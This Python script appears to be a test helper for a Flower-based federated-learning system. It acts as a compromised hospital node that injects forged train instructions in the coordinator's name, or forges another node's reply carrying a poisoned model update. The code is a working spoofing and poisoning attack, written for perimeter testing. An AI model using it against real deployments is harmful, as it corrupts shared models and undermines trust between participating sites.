"""A registered hospital turned attacker: Fleet API pushes with its own SuperNode key (tests/test_perimeter.py).

Run as a separate process. It holds only what site-1 holds: its own key (`--key`), the public port, the CA
certificate, its own node id, and the node ids and message id the SuperLink's users can learn (summary.json,
logs). It talks to the Fleet API exactly as Flower 1.42's SuperNode does (flwr/supernode/fleet_http_connection.py:
PushMessages, then PushObject for the objects the SuperLink asks for), with two messages a SuperNode never sends:

  inject: a `train` instruction (no reply_to, src_node_id = the SuperLink's id 1) addressed to another node,
          carrying a run config and arrays the site would train on;
  forge:  a reply in another node's name (its src_node_id) to an instruction that node was sent.

Prints `pushed <message id>` and exits 0 when the SuperLink stored the message, else exits 1.
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from pathlib import Path

import torch
from flwr.app import ArrayRecord, ConfigRecord, Message, Metadata, MetricRecord, RecordDict
from flwr.app.message import remove_content_from_message
from flwr.common.constant import SUPERLINK_NODE_ID
from flwr.common.serde import message_to_proto
from flwr.proto.fleet_pb2 import PushMessagesRequest  # pylint: disable=E0611
from flwr.proto.node_pb2 import Node  # pylint: disable=E0611
from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree, no_object_id_recompute
from flwr.supercore.inflatable.inflatable_protobuf_utils import make_push_object_fn_protobuf
from flwr.supercore.inflatable.inflatable_utils import push_objects
from flwr.supercore.interceptors.http.runtime_version import RuntimeVersionHttpInterceptor
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

from edfed.common.config import RUN_DEFAULTS, train_config_from
from edfed.common.model import build_model
from edfed.common.signing import load_site_key, sign_reply


def _push(client: FleetHttpClient, node: Node, msg: Message, deadline: float) -> str:
    """PushMessages + PushObject, as a SuperNode sends a reply; retried while the run is not yet running."""
    with no_object_id_recompute():
        msg.metadata.__dict__["_message_id"] = msg.object_id
        objects, tree = get_all_nested_objects(msg), get_object_tree(msg)
        request = PushMessagesRequest(node=node, messages_list=[message_to_proto(remove_content_from_message(msg))],
                                      message_object_trees=[tree])
    while True:
        try:
            response = client.PushMessages(request)
            break
        except Exception as exc:  # noqa: BLE001 - a run still starting answers with an error; retry until deadline
            if time.monotonic() > deadline:
                raise
            print(f"push refused ({exc}); retrying", flush=True)
            time.sleep(2)
    push_objects(objects, make_push_object_fn_protobuf(client.PushObject, node, msg.metadata.run_id,
                                                       response.session_id),
                 object_ids_to_push=set(response.objects_to_push))
    if not response.objects_to_push:  # a stored message always has its own new object to push
        raise RuntimeError("the SuperLink did not store the message")
    return msg.metadata.message_id


def _model_state(encoder: str) -> tuple[dict, str]:
    """Arrays and training settings exactly as the coordinator would send for this run (the site would train)."""
    config = train_config_from({**RUN_DEFAULTS, "model": encoder, "lr": 0.01, "data-dir": ""})
    train_config = json.dumps({k: v for k, v in config.to_dict().items() if k != "extra"})
    return build_model(config).trainable_state(), train_config


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--superlink", required=True)
    parser.add_argument("--ca", type=Path, required=True)
    parser.add_argument("--key", type=Path, required=True, help="the attacking site's own SuperNode key")
    parser.add_argument("--node", type=int, required=True, help="the attacking site's own node id")
    parser.add_argument("--run", type=int, required=True)
    parser.add_argument("--model", required=True)
    parser.add_argument("--timeout", type=float, default=240)
    sub = parser.add_subparsers(dest="attack", required=True)
    inject = sub.add_parser("inject")
    inject.add_argument("--to", type=int, required=True)
    forge = sub.add_parser("forge")
    forge.add_argument("--as-node", type=int, required=True)
    forge.add_argument("--message-id-file", type=Path, required=True,
                       help="waits for this file to hold the id of the instruction to answer")
    args = parser.parse_args(argv)

    key = load_site_key(args.key)
    state, train_config = _model_state(args.model)  # before waiting: the reply must beat the real site's
    client = FleetHttpClient.from_server_address(
        args.superlink, False, args.ca.read_bytes(),
        interceptors=[RuntimeVersionHttpInterceptor(component_name="SuperNode"),
                      NodeAuthHttpInterceptor(key, key.public_key())])
    node, deadline = Node(node_id=args.node), time.monotonic() + args.timeout
    if args.attack == "inject":
        config = {"train-config": train_config, "run-id": f"injected-{args.run}", "server-round": 1, "num-rounds": 1,
                  "local-epochs": 1, "max-grad-norm": 1.0}
        msg = Message(content=RecordDict({"arrays": ArrayRecord(state), "config": ConfigRecord(config)}),
                      metadata=Metadata(run_id=args.run, message_id="", src_node_id=SUPERLINK_NODE_ID,
                                        dst_node_id=args.to, reply_to_message_id="", group_id="",
                                        created_at=time.time(), ttl=600, message_type="train"))
    else:
        while not (args.message_id_file.exists() and args.message_id_file.read_text().strip()):
            if time.monotonic() > deadline:
                print("no instruction id to answer", flush=True)
                return 1
            time.sleep(0.1)
        reply_to = args.message_id_file.read_text().strip()
        huge = {name: torch.full_like(value, 1e3) for name, value in state.items()}  # a poisoned update
        instruction = Message(content=RecordDict(), metadata=Metadata(
            run_id=args.run, message_id=reply_to, src_node_id=SUPERLINK_NODE_ID, dst_node_id=args.as_node,
            reply_to_message_id="", group_id="", created_at=time.time(), ttl=600, message_type="train"))
        msg = Message(RecordDict({"arrays": ArrayRecord(huge), "metrics": MetricRecord({"num-examples": 10000})}),
                      reply_to=instruction)
        # Signed as well as site-1 can: with its own key, in site-2's name.
        sign_reply(msg, instruction, node_id=args.as_node, key=key)
    try:
        print(f"pushed {_push(client, node, msg, deadline)}", flush=True)
    except Exception as exc:  # noqa: BLE001 - report whatever the SuperLink answered
        print(f"push failed: {exc}", flush=True)
        return 1
    finally:
        client.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
